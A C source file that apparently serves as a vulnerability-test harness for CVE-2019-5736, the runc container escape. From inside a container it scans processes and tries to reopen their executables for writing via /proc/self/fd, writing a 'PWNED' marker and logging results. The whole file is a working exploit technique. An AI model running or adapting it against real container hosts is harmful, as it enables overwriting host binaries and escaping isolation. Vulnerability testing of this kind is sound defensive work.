/*
 * exe-overwrite REPORT STOPFILE SECONDS: CVE-2019-5736 from inside a container.
 *
 * Watches every process of its pid namespace but itself. For each executable file it has not
 * seen yet (by device and inode of /proc/<pid>/exe), it opens /proc/<pid>/exe with O_PATH and
 * keeps trying to reopen that file for writing through /proc/self/fd/<n>, while the process runs
 * (ETXTBSY) and after it is gone, for 3 seconds. A reopen that succeeds writes "PWNED" at offset
 * 0 and is reported. Runs until STOPFILE exists or SECONDS pass.
 *
 * Report lines: READY; SEEN <pid> <exe>; DENIED <pid> <error> (the process could not be
 * inspected); OPENED <exe>; REFUSED <exe> <error of the last reopen>; DONE.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 1024
#define MAX_PID (1 << 22)

struct target {
    int fd;
    dev_t dev;
    ino_t ino;
    double since;
    int last_errno;
    char exe[256];
};

static struct target targets[MAX_TARGETS];
static int target_count;
static unsigned char denied[MAX_PID / 8];
static FILE *report;

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int known(dev_t dev, ino_t ino)
{
    for (int i = 0; i < target_count; i++)
        if (targets[i].dev == dev && targets[i].ino == ino)
            return 1;
    return 0;
}

static void watch(int pid)
{
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (stat(path, &st) != 0) {
        if ((errno == EACCES || errno == EPERM) && !(denied[pid / 8] & (1 << (pid % 8)))) {
            denied[pid / 8] |= 1 << (pid % 8);
            fprintf(report, "DENIED %d %s\n", pid, strerror(errno));
        }
        return;
    }
    if (known(st.st_dev, st.st_ino) || target_count == MAX_TARGETS)
        return;
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    struct target *t = &targets[target_count++];
    t->fd = fd;
    t->dev = st.st_dev;
    t->ino = st.st_ino;
    t->since = now();
    t->last_errno = 0;
    ssize_t n = readlink(path, t->exe, sizeof t->exe - 1);
    t->exe[n > 0 ? n : 0] = '\0';
    fprintf(report, "SEEN %d %s\n", pid, t->exe);
}

/* One reopen attempt; returns 1 once the target is finished with. */
static int attack(struct target *t, int last_chance)
{
    char path[64];
    if (t->fd < 0)
        return 1;
    snprintf(path, sizeof path, "/proc/self/fd/%d", t->fd);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
        ssize_t written = pwrite(w, "PWNED", 5, 0);
        fprintf(report, "OPENED %s wrote=%zd\n", t->exe, written);
        close(w);
    } else {
        t->last_errno = errno;
        if (!last_chance && now() - t->since < 3.0)
            return 0;
        fprintf(report, "REFUSED %s %s\n", t->exe, strerror(t->last_errno));
    }
    close(t->fd);
    t->fd = -1;
    return 1;
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: exe-overwrite REPORT STOPFILE SECONDS\n");
        return 2;
    }
    report = fopen(argv[1], "a");
    if (!report) {
        perror(argv[1]);
        return 2;
    }
    setvbuf(report, NULL, _IOLBF, 0);
    double deadline = now() + atoi(argv[3]);
    int self = getpid();
    fprintf(report, "READY\n");
    while (now() < deadline && access(argv[2], F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while (proc && (e = readdir(proc)) != NULL) {
            int pid = atoi(e->d_name);
            if (pid > 0 && pid < MAX_PID && pid != self)
                watch(pid);
        }
        if (proc)
            closedir(proc);
        for (int i = 0; i < target_count; i++)
            attack(&targets[i], 0);
        usleep(500);
    }
    for (int i = 0; i < target_count; i++)
        attack(&targets[i], 1);
    fprintf(report, "DONE\n");
    return 0;
}
